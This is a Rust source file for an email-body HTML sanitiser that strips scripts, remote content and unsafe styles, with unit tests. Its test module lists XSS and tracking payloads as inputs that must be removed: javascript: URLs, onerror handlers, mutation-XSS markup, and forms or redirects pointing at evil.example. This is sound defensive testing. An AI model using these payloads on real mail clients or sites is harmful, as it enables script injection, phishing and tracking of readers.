//! Bodies of messages as markup that is safe to show: no script, nothing from the network, no style
//! that could draw outside of its own text.

mod cost;
mod plain;
mod runs;
mod style;
mod tokens;

use std::borrow::Cow;
use std::collections::{HashMap, HashSet};
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};

use ammonia::{Builder, UrlRelative};
use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;

use tokens::{Token, Tokens};

pub use plain::{broken, html_from_text, text_from_html};

/// Longer markup is not shown: no letter is, and laying it out would stop the page.
const MAX_MARKUP: usize = 4 * 1024 * 1024;
/// All pictures of a message together, in bytes before base64.
const MAX_PICTURES: usize = 16 * 1024 * 1024;

const TAGS: [&str; 62] = [
    "a",
    "abbr",
    "address",
    "b",
    "big",
    "blockquote",
    "br",
    "caption",
    "center",
    "cite",
    "code",
    "col",
    "colgroup",
    "dd",
    "del",
    "details",
    "dfn",
    "div",
    "dl",
    "dt",
    "em",
    "figcaption",
    "figure",
    "font",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "hr",
    "i",
    "img",
    "ins",
    "kbd",
    "li",
    "mark",
    "ol",
    "p",
    "pre",
    "q",
    "rp",
    "rt",
    "ruby",
    "s",
    "samp",
    "small",
    "span",
    "strike",
    "strong",
    "sub",
    "summary",
    "sup",
    "table",
    "tbody",
    "td",
    "tfoot",
    "th",
    "thead",
    "tr",
    "u",
    "ul",
];

/// Attributes that place or size something, harmless on every element; or that the filter takes away.
const ATTRIBUTES: [&str; 19] = [
    "align",
    "background",
    "bgcolor",
    "border",
    "cellpadding",
    "cellspacing",
    "color",
    "colspan",
    "dir",
    "face",
    "height",
    "lang",
    "rowspan",
    "size",
    "srcset",
    "style",
    "title",
    "valign",
    "width",
];

/// A picture that came with the message.
pub struct Picture<'a> {
    /// The id by which the markup refers to it, without brackets.
    pub content_id: &'a str,
    /// Its media type.
    pub media_type: &'a str,
    /// Its bytes.
    pub data: &'a [u8],
}

/// Markup that went through [`sanitise`].
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Sanitised {
    /// The markup.
    pub html: String,
    /// Something would have come from the network, and was left out.
    pub remote_removed: bool,
}

/// Keeps what is on the lists and drops all else; none when the markup is longer than any letter, or made
/// so that parsing it would take too long.
pub fn sanitise(markup: &str, pictures: &[Picture<'_>]) -> Option<Sanitised> {
    if markup.len() > MAX_MARKUP || cost::is_costly(markup) {
        return None;
    }
    let remote = Arc::new(AtomicBool::new(false));
    let filter = Filter { pictures: inline(pictures), budget: AtomicUsize::new(MAX_PICTURES * 2), remote };
    let remote = Arc::clone(&filter.remote);
    let html =
        builder().attribute_filter(move |tag, name, value| filter.attribute(tag, name, value)).clean(markup);
    let remote_removed = remote.load(Ordering::Relaxed) || fetches(markup);
    Some(Sanitised { html: html.to_string(), remote_removed })
}

/// Whether markup has elements or a style sheet that bring something from the network.
fn fetches(markup: &str) -> bool {
    let mut tokens = Tokens::new(markup);
    while let Some(token) = tokens.next() {
        let Token::Open { name, .. } = token else { continue };
        let is = |one: &&str| name.eq_ignore_ascii_case(one);
        if ["link", "video", "audio", "iframe", "object", "embed"].iter().any(is)
            || is(&"style") && style::fetches(tokens.skip_to_end_of(name))
        {
            return true;
        }
    }
    false
}

/// Whether an address leads out of the message.
fn is_remote(address: &str) -> bool {
    ["cid", "data"].iter().all(|name| scheme(address, name).is_none())
}

fn builder<'a>() -> Builder<'a> {
    let mut builder = Builder::empty();
    builder
        .tags(HashSet::from(TAGS))
        .clean_content_tags(HashSet::from([
            "script", "style", "title", "template", "noscript", "iframe", "svg", "math",
        ]))
        .generic_attributes(HashSet::from(ATTRIBUTES))
        .tag_attributes(HashMap::from([
            ("a", HashSet::from(["href"])),
            ("img", HashSet::from(["src", "alt"])),
            ("ol", HashSet::from(["start", "type"])),
            ("td", HashSet::from(["nowrap"])),
            ("details", HashSet::from(["open"])),
        ]))
        // Decided per attribute by the filter; `cid` is for pictures only.
        .url_schemes(HashSet::from(["http", "https", "mailto", "cid"]))
        .url_relative(UrlRelative::Deny)
        .set_tag_attribute_values(HashMap::from([("a", HashMap::from([("target", "_blank")]))]))
        .link_rel(Some("noopener noreferrer nofollow"))
        .strip_comments(true);
    builder
}

/// Pictures by content id, as `data:` addresses.
fn inline(pictures: &[Picture<'_>]) -> HashMap<String, String> {
    let shown = pictures.iter().filter(|picture| is_shown(picture.media_type));
    let mut left = MAX_PICTURES;
    let mut inline = HashMap::new();
    for picture in shown {
        let Some(rest) = left.checked_sub(picture.data.len()) else { continue };
        left = rest;
        let url = format!("data:{};base64,{}", picture.media_type, STANDARD.encode(picture.data));
        inline.insert(picture.content_id.to_owned(), url);
    }
    inline
}

/// Raster pictures only: SVG is a document.
fn is_shown(media_type: &str) -> bool {
    matches!(media_type, "image/png" | "image/jpeg" | "image/gif" | "image/webp" | "image/avif" | "image/bmp")
}

struct Filter {
    pictures: HashMap<String, String>,
    /// What the pictures may add to the markup, however often it repeats them.
    budget: AtomicUsize,
    remote: Arc<AtomicBool>,
}

impl Filter {
    fn attribute<'v>(&self, tag: &str, name: &str, value: &'v str) -> Option<Cow<'v, str>> {
        match (tag, name) {
            ("img", "src") => self.picture(value).map(Cow::Owned),
            (_, "background" | "srcset") => {
                self.remote.fetch_or(is_remote(value), Ordering::Relaxed);
                None
            }
            (_, "href") => is_link(value).then_some(Cow::Borrowed(value)),
            (_, "style") => {
                self.remote.fetch_or(style::fetches(value), Ordering::Relaxed);
                Some(style::filter(value)).filter(|kept| !kept.is_empty()).map(Cow::Owned)
            }
            _ => Some(Cow::Borrowed(value)),
        }
    }

    fn picture(&self, address: &str) -> Option<String> {
        self.remote.fetch_or(is_remote(address), Ordering::Relaxed);
        let id = scheme(address, "cid")?;
        let url = self.pictures.get(id).or_else(|| self.pictures.get(&unescape(id)))?;
        let spend = |left: usize| left.checked_sub(url.len());
        self.budget.fetch_update(Ordering::Relaxed, Ordering::Relaxed, spend).ok()?;
        Some(url.clone())
    }
}

fn is_link(address: &str) -> bool {
    ["http", "https", "mailto"].iter().any(|name| scheme(address, name).is_some())
}

/// What follows the scheme, if the address has this one.
fn scheme<'a>(address: &'a str, name: &str) -> Option<&'a str> {
    let (before, after) = address.trim_start().split_once(':')?;
    before.eq_ignore_ascii_case(name).then_some(after)
}

/// Undoes percent-encoding, as RFC 2392 asks for content ids.
fn unescape(id: &str) -> String {
    let mut bytes = Vec::with_capacity(id.len());
    let mut rest = id.as_bytes();
    while let Some((byte, after)) = rest.split_first() {
        let pair = after.get(..2).and_then(|pair| std::str::from_utf8(pair).ok());
        match pair.and_then(|pair| u8::from_str_radix(pair, 16).ok()).filter(|_| *byte == b'%') {
            Some(decoded) => {
                bytes.push(decoded);
                rest = after.get(2..).unwrap_or_default();
            }
            None => {
                bytes.push(*byte);
                rest = after;
            }
        }
    }
    String::from_utf8_lossy(&bytes).into_owned()
}

#[cfg(test)]
mod tests {
    use super::{Picture, sanitise};

    fn clean(html: &str) -> String {
        sanitise(html, &[]).unwrap().html
    }

    #[test]
    fn scripts_in_every_disguise_are_dropped() {
        for hostile in [
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "<a href=\"javascript:alert(1)\">x</a>",
            "<a href=\" jAvAsCrIpT&colon;alert(1)\">x</a>",
            "<svg><script>alert(1)</script></svg>",
            "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
            "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
            "<form action=https://evil.example><input name=password></form>",
            "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
            "<base href=https://evil.example>",
            "<link rel=stylesheet href=https://evil.example/x.css>",
            "<object data=https://evil.example></object>",
            "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
        ] {
            let out = clean(hostile).to_lowercase();
            for word in ["script", "alert", "evil", "onerror", "<form", "<meta", "<input", "data:"] {
                assert!(!out.contains(word), "{hostile} gave {out}");
            }
        }
    }

    #[test]
    fn markup_made_to_stop_the_reader_is_not_parsed() {
        let fonts: String = (0..2000).map(|at| format!("<b x={at:x}>")).collect();
        assert_eq!(sanitise(&format!("<p>{fonts}{}", "<p>x".repeat(4000)), &[]), None);
    }

    #[test]
    fn nothing_is_fetched_from_the_network_and_the_reader_is_told() {
        let out = sanitise("<img src=\"https://spy.example/pixel.gif\">hello", &[]).unwrap();
        assert!(!out.html.contains("spy"));
        assert!(out.remote_removed);
        let out = sanitise("<p style=\"background:url(https://spy.example/x)\">hello</p>", &[]).unwrap();
        assert!(!out.html.contains("spy"));
        assert!(out.remote_removed);
        for hostile in [
            "<table background=\"https://spy.example/x\"><tr><td background='//spy.example'>hello</table>",
            "<img src=\"cid:a\" srcset=\"https://spy.example/x 2x\">hello",
            "<link rel=stylesheet href=\"https://spy.example/x\"><p>hello</p>",
            "<style>@import 'https://spy.example/x';</style><p>hello</p>",
            "<video poster=\"https://spy.example/x\"></video><p>hello</p>",
            "<p style=\"background: image-set('https://spy.example/x' 1x)\">hello</p>",
            "<style><!-- p { background: URL( 'https://spy.example/x' ) } --></style><p>hello</p>",
        ] {
            let out = sanitise(hostile, &[]).unwrap();
            assert!(!out.html.contains("spy") && out.remote_removed, "{hostile} gave {}", out.html);
        }
    }

    #[test]
    fn nobody_is_told_of_pictures_from_elsewhere_where_none_are() {
        for harmless in [
            "<p background-color=red>A link to a video</p>",
            "<a href=\"mailto:x@imports.example\">x@imports.example</a> and @import",
            "<style>p { color: red } .a { background: url(\"data:image/png;base64,AA==\") }</style><p>url(x)</p>",
            "<!-- <link rel=stylesheet href=\"https://spy.example/x\"> --><linked>hello</linked>",
            "<td background=\"cid:a\"><img src=\"data:image/png;base64,AA==\"><i style=\"background: url(CID:a)\">x</i>",
        ] {
            assert!(!sanitise(harmless, &[]).unwrap().remote_removed, "{harmless}");
        }
    }

    #[test]
    fn links_open_elsewhere_without_telling_where_from() {
        let out = clean("<a href=\"https://example.org/\">x</a>");
        assert!(out.contains("href=\"https://example.org/\""));
        assert!(out.contains("noopener noreferrer"));
        assert!(!clean("<a href=\"cid:x\">x</a>").contains("cid"));
    }

    #[test]
    fn pictures_of_the_message_are_shown_and_others_are_not() {
        let picture = Picture { content_id: "a@b", media_type: "image/png", data: b"png" };
        let drawing = Picture { content_id: "c@d", media_type: "image/svg+xml", data: b"<svg onload=x>" };
        let html = "<img src=\"cid:a%40b\"><img src=\"cid:c@d\"><img src=\"cid:none\">";
        let out = sanitise(html, &[picture, drawing]).unwrap();
        assert_eq!(out.html.matches("data:image/png;base64,cG5n").count(), 1);
        assert_eq!(out.html.matches("src=").count(), 1);
    }

    #[test]
    fn a_picture_shown_a_thousand_times_does_not_fill_the_memory() {
        let data = vec![0; 1024 * 1024];
        let picture = Picture { content_id: "a", media_type: "image/png", data: &data };
        let out = sanitise(&"<img src=\"cid:a\">".repeat(1000), &[picture]).unwrap();
        assert!(out.html.len() < 40 * 1024 * 1024);
    }
}
